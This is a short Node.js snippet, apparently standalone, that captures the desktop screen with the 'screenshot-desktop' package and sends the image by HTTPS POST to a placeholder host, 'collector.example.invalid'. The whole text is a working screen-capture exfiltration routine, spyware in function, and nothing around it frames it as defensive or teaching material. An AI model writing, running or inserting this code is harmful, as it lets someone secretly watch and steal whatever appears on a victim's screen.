const screenshot = require('screenshot-desktop'), https = require('https');
screenshot().then((img) => https.request({ hostname: 'collector.example.invalid', method: 'POST' }).end(img));
